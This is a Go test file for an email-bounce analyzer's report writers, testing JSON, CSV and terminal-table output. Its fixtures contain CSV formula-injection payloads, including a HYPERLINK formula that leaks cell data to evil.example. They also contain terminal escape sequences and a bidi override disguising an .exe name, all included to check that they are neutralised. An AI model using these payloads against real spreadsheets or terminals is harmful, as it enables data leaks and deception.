package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"reflect"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/bounce-analyzer/bounce/classify"
)

func sample() []classify.Record {
	return []classify.Record{
		{
			Source: "a.eml", Recipient: "kijitora@example.jp", Action: "failed",
			Status: "5.1.1", ReplyCode: "550", Reason: "userunknown", Hard: true,
			Diagnostic: "550 5.1.1 <kijitora@example.jp>... User unknown",
			Rule:       "userunknown-1",
		},
		{
			Source: "b.eml#2", Recipient: "neko@example.org", Action: "delayed",
			Status: "4.2.2", Reason: "mailboxfull",
			Diagnostic: "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
			Sender:     "+1 555 0100", OriginalSubject: "-2+3", FeedbackType: "@SUM(A1)",
			Vendor: "\tTab", Rule: "\rCR",
		},
		{Source: "c.eml", Recipient: "x@example.com", Reason: "vacation"},
	}
}

func TestNew(t *testing.T) {
	for _, f := range Formats {
		if w, err := New(f, new(bytes.Buffer)); err != nil || w == nil {
			t.Errorf("New(%q) = %v, %v", f, w, err)
		}
	}
	if _, err := New("xml", new(bytes.Buffer)); err == nil {
		t.Error("New(xml) gave no error")
	}
}

func TestJSON(t *testing.T) {
	var buf bytes.Buffer
	w := NewJSON(&buf)
	recs := sample()
	if err := w.Write(recs[:2]); err != nil {
		t.Fatal(err)
	}
	if n := strings.Count(buf.String(), "\n"); n != 2 {
		t.Fatalf("after first Write: %d lines flushed, want 2", n)
	}
	if err := w.Write(nil); err != nil {
		t.Fatal(err)
	}
	if err := w.Write(recs[2:]); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSuffix(buf.String(), "\n"), "\n")
	if len(lines) != 3 {
		t.Fatalf("%d lines, want 3", len(lines))
	}
	for i, line := range lines {
		var m map[string]any
		if err := json.Unmarshal([]byte(line), &m); err != nil {
			t.Fatalf("line %d: %v", i+1, err)
		}
		var keys []string
		for k := range m {
			keys = append(keys, k)
		}
		if len(keys) != len(classify.Fields) {
			t.Errorf("line %d: keys %q, want %q", i+1, keys, classify.Fields)
		}
		for _, f := range classify.Fields {
			if _, ok := m[f]; !ok {
				t.Errorf("line %d: no key %q", i+1, f)
			}
		}
		var back classify.Record
		json.Unmarshal([]byte(line), &back)
		if !reflect.DeepEqual(back, recs[i]) {
			t.Errorf("line %d: round trip %+v, want %+v", i+1, back, recs[i])
		}
	}
	if strings.Contains(lines[0], `\u003c`) {
		t.Errorf("HTML escaping: %s", lines[0])
	}
	// Keys come in the order of Fields.
	last := -1
	for _, f := range classify.Fields {
		i := strings.Index(lines[0], `"`+f+`":`)
		if i < last {
			t.Errorf("key %q out of order", f)
		}
		last = i
	}
}

func TestCSV(t *testing.T) {
	var buf bytes.Buffer
	w := NewCSV(&buf)
	recs := sample()
	recs[0].Diagnostic = "line one\nline \"two\", with comma"
	if err := w.Write(recs); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), "\r\n") {
		t.Error("rows do not end in CRLF")
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 4 {
		t.Fatalf("%d rows, want 4", len(rows))
	}
	if !reflect.DeepEqual(rows[0], classify.Fields) {
		t.Errorf("header %q", rows[0])
	}
	if got := rows[1][8]; got != recs[0].Diagnostic {
		t.Errorf("diagnostic %q, want %q", got, recs[0].Diagnostic)
	}
	for _, row := range rows[1:] {
		for j, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("column %s: cell %q not neutralised", classify.Fields[j], cell)
			}
		}
	}
	want := map[string]string{
		"diagnostic": "'" + recs[1].Diagnostic, "sender": "'+1 555 0100",
		"original_subject": "'-2+3", "feedback_type": "'@SUM(A1)",
		"vendor": "'\tTab", "status": "4.2.2",
		// encoding/csv drops a bare CR in a field when it writes CRLF rows.
		"rule": "'CR",
	}
	for j, f := range classify.Fields {
		if v, ok := want[f]; ok && rows[2][j] != v {
			t.Errorf("%s = %q, want %q", f, rows[2][j], v)
		}
	}
}

func TestCSVEmpty(t *testing.T) {
	var buf bytes.Buffer
	w := NewCSV(&buf)
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if got, want := buf.String(), strings.Join(classify.Fields, ",")+"\r\n"; got != want {
		t.Errorf("empty CSV = %q, want %q", got, want)
	}
}

func TestNeutralise(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"plain", "plain"},
		{"=1+1", "'=1+1"},
		{"+1", "'+1"},
		{"-1", "'-1"},
		{"@x", "'@x"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"＝1", "'＝1"},
		{"a=1", "a=1"},
		{"'quoted", "'quoted"},
	}
	for _, tt := range tests {
		if got := Neutralise(tt.in); got != tt.want {
			t.Errorf("Neutralise(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestTable(t *testing.T) {
	var buf bytes.Buffer
	w := NewTable(&buf)
	recs := sample()
	recs[0].Diagnostic = "\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07link\x1b]8;;\x07 and\nnew\tline " + strings.Repeat("long ", 30)
	recs[0].Recipient = "a-very-long-local-part-that-goes-on-and-on@sub.example.com"
	recs[1].Recipient = "猫@例え.jp"
	if err := w.Write(recs); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	if strings.ContainsAny(out, "\x1b\x07\r\t") {
		t.Errorf("control characters in table:\n%q", out)
	}
	lines := strings.Split(strings.TrimSuffix(out, "\n"), "\n")
	if len(lines) != 4 {
		t.Fatalf("%d lines, want 4:\n%s", len(lines), out)
	}
	if !strings.HasPrefix(lines[0], "RECIPIENT") || !strings.Contains(lines[0], "DIAGNOSTIC") {
		t.Errorf("header %q", lines[0])
	}
	// Columns line up in terminal columns.
	col := func(line, word string) int {
		i := strings.Index(line, word)
		if i < 0 {
			t.Fatalf("%q not in %q", word, line)
		}
		return textWidth(line[:i])
	}
	want := col(lines[0], "REASON")
	for i, reason := range []string{"userunknown", "mailboxfull", "vacation"} {
		if got := col(lines[i+1], reason); got != want {
			t.Errorf("line %d: reason at column %d, want %d:\n%s", i+2, got, want, out)
		}
	}
	if !strings.Contains(lines[1], "red link and new line long") {
		t.Errorf("diagnostic not cleaned: %q", lines[1])
	}
	if !strings.Contains(lines[1], "a-very-long-local-…") || !strings.Contains(lines[1], "@sub.example.com ") {
		t.Errorf("no truncation: %q", lines[1])
	}
	diag := lines[1][strings.Index(lines[1], "red"):]
	if n := textWidth(diag); n > diagnosticWidth {
		t.Errorf("diagnostic %d columns wide", n)
	}
	if !strings.Contains(lines[1], " hard ") || !strings.Contains(lines[2], " soft ") || !strings.Contains(lines[3], " - ") {
		t.Errorf("hard/soft column wrong:\n%s", out)
	}
}

func TestTableEmpty(t *testing.T) {
	var buf bytes.Buffer
	w := NewTable(&buf)
	w.Write(nil)
	w.Close()
	if buf.Len() != 0 {
		t.Errorf("empty table wrote %q", buf.String())
	}
}

func TestSanitize(t *testing.T) {
	tests := []struct{ in, want string }{
		{"plain text", "plain text"},
		{"  a \t b\r\n c  ", "a b c"},
		{"\x1b[1;31mbold red\x1b[0m", "bold red"},
		{"\x1b]0;title\x07after", "after"},
		{"\x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\", "link"},
		{"\x1bPdcs string\x1b\\ok", "ok"},
		{"\x1b(Bcharset", "charset"},
		{"\x1bcreset", "reset"},
		{"\u009b31mC1 csi", "C1 csi"},
		{"\u009d0;t\u009cC1 osc", "C1 osc"},
		{"bell\x07 nul\x00 del\x7f", "bell nul del"},
		{"bad \xff utf8", "bad \uFFFD utf8"},
		{"evil\u202e txt.exe\u202c", "evil txt.exe"},
		{"\x1b[", ""},
		{"\x1b]unterminated", ""},
		{"日本語 ok", "日本語 ok"},
	}
	for _, tt := range tests {
		if got := Sanitize(tt.in); got != tt.want {
			t.Errorf("Sanitize(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestTruncate(t *testing.T) {
	tests := []struct {
		in   string
		w    int
		want string
	}{
		{"short", 10, "short"},
		{"exactly10!", 10, "exactly10!"},
		{"this is too long", 10, "this is t…"},
		{"日本語日本語", 7, "日本語…"},
		{"日本語日本語", 12, "日本語日本語"},
	}
	for _, tt := range tests {
		if got := truncate(tt.in, tt.w); got != tt.want {
			t.Errorf("truncate(%q, %d) = %q, want %q", tt.in, tt.w, got, tt.want)
		}
		if textWidth(truncate(tt.in, tt.w)) > tt.w {
			t.Errorf("truncate(%q, %d) too wide", tt.in, tt.w)
		}
	}
	if got := truncateMiddle("abcdefghij@example.com", 15); got != "abcdefg…ple.com" {
		t.Errorf("truncateMiddle = %q", got)
	}
	if got := truncateMiddle("a@b", 15); got != "a@b" {
		t.Errorf("truncateMiddle = %q", got)
	}
}

func TestSummary(t *testing.T) {
	var s Summary
	if got, want := s.Line(), "read 0 messages, 0 bounces"; got != want {
		t.Errorf("empty Line = %q, want %q", got, want)
	}
	s.Add(sample())
	s.Add(nil)
	s.Add([]classify.Record{{Reason: "userunknown", Hard: true}, {Reason: "feedback"}, {Reason: "\x1b[31mx"}})
	s.AddError()
	s.AddSkipped()
	if s.Messages != 3 || s.Bounces != 4 || s.Hard != 2 || s.Soft != 2 || s.Errors != 1 {
		t.Errorf("counts %+v", s)
	}
	want := "read 3 messages, 4 bounces (2 hard, 2 soft), 1 error, 1 skipped; userunknown 2, x 1, mailboxfull 1; not bounces: feedback 1, vacation 1"
	if got := s.Line(); got != want {
		t.Errorf("Line =\n %q\nwant\n %q", got, want)
	}
}

// FuzzSanitize checks that no control character, escape or bidi
// formatting character survives, and that the result is valid UTF-8.
func FuzzSanitize(f *testing.F) {
	f.Add("\x1b[31mred\x1b[0m")
	f.Add("\u009b1;2H\u202eabc\x07")
	f.Add("a\tb\r\nc")
	f.Fuzz(func(t *testing.T, s string) {
		out := Sanitize(s)
		if !utf8.ValidString(out) {
			t.Fatalf("invalid UTF-8: %q", out)
		}
		for _, r := range out {
			if r < 0x20 || r == 0x7f || r >= 0x80 && r < 0xa0 || isBidi(r) {
				t.Fatalf("%q left in %q", r, out)
			}
		}
		if strings.Contains(out, "  ") || strings.TrimSpace(out) != out {
			t.Fatalf("spaces not collapsed: %q", out)
		}
		if truncate(out, 10) != "" && textWidth(truncate(out, 10)) > 10 {
			t.Fatalf("truncate too wide")
		}
	})
}
